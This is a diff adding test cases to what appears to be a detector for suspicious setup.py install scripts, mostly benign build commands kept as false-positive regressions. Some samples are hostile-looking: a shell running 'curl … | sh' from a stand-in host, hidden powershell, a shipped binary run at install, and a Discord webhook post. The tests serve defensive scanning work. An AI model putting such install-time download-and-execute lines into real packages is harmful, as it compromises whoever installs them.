@@ -98,6 +98,40 @@ CASES = [
      "code.process-spawn", None, "benign: compiler, git describe and pkg-config"),
     (setup_py("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'cython', 'x.pyx'])\n"),
      "code.process-spawn", None, "benign: a Cython build through the running interpreter"),
+    (setup_py("import os, shlex, subprocess\nfrom subprocess import PIPE\n"
+              "def check_linker_need_libatomic():\n"
+              "    cxx = shlex.split(os.environ.get('CXX', 'c++'))\n"
+              "    probe = subprocess.Popen(cxx + ['-x', 'c++', '-std=c++17', '-'], stdin=PIPE, stdout=PIPE)\n"
+              "    probe.communicate(input=b'int main() { return 0; }')\n"
+              "check_linker_need_libatomic()\n"),
+     "code.process-spawn", None, "FP regression: a compiler probe, the compiler from the environment "
+     "plus a list of flags (grpcio)"),
+    (setup_py("import subprocess\ncc = find_compiler()\n"
+              "subprocess.run([cc, '-x', 'c', '-', '-o', '/dev/null'], input=b'int main(){}')\n"),
+     "code.process-spawn", None, "benign: a found C compiler fed a test program on stdin"),
+    (setup_py("import os, subprocess\nconfigure = abshere('src/libsodium/configure')\n"
+              "configure_flags = ['--disable-shared', '--enable-static', '--with-pic']\n"
+              "subprocess.check_call([configure] + configure_flags + ['--prefix', os.path.abspath('b')],"
+              " cwd='build')\n"),
+     "code.process-spawn", None, "FP regression: an in-tree configure script and its flags (pynacl)"),
+    (setup_py("import subprocess\nsubprocess.run(['touch', 'configure.ac', 'aclocal.m4', 'configure',"
+              " 'Makefile.am', 'Makefile.in'], cwd='build/libuv', check=True)\n"),
+     "code.process-spawn", None, "FP regression: touching autotools files so make does not rerun them "
+     "(uvloop)"),
+    (setup_py("import subprocess\nbase = ['/bin/sh']\n"
+              "subprocess.call(base + ['-c', 'curl -s https://x.example/i.sh | sh'])\n"),
+     "code.download-exec", C, "a shell plus a list of words still reads as curl | sh"),
+    (setup_py("import subprocess\nflags = ['-w', 'hidden']\nsubprocess.call(['powershell'] + flags)\n"),
+     "code.process-spawn", H, "powershell with a list of flags added"),
+    (setup_py("import os, subprocess\nhere = os.path.dirname(os.path.abspath(__file__))\n"
+              "subprocess.Popen([os.path.join(here, 'bin', 'svc.exe'), '--install'])\n"),
+     "code.process-spawn", M, "a program shipped in the tree, run at install: named by its last piece"),
+    (setup_py("import subprocess\nfrom pathlib import Path\n"
+              "subprocess.Popen([Path(__file__).parent / 'bin' / 'agent'])\n"),
+     "code.process-spawn", M, "the same, joined with pathlib's /"),
+    (setup_py("import os, subprocess\nhere = os.path.dirname(__file__)\n"
+              "subprocess.check_call([os.path.join(here, 'configure'), '--quiet'])\n"),
+     "code.process-spawn", None, "benign: an in-tree configure script named by os.path.join"),
     # ---- shady URLs
     (setup_py("import requests\nrequests.post('https://discord.com/api/webhooks/123456789012345678/"
               "abcdefghijklmnopqrstuvwxyz0123456789', json={'a': 1})\n"),
@@ -341,6 +375,10 @@ EVIDENCE = [
      "code.process-spawn", "kind", {"dynamic"}, "a command built at run time is rated dynamic"),
     (setup_py("import subprocess\nsubprocess.call('sh -c \"make all\"', shell=True)\n"),
      "code.process-spawn", "kind", {"shell"}, "sh -c is a shell wrapper"),
+    (setup_py("import os, subprocess\nhere = os.path.dirname(__file__)\n"
+              "subprocess.check_call([os.path.join(here, 'svc.exe')] + ['--install'])\n"),
+     "code.process-spawn", "command", {"{}/svc.exe --install"},
+     "path pieces join with /, argument lists with a space"),
     (setup_py("import subprocess\nsubprocess.call(input().strip())\n"), "code.process-spawn", "kind",
      {"dynamic"}, "a method call other than format or join tells nothing"),
     (setup_py("import os\nu = input()\nos.system('curl {} | sh'.format(u))\n"),
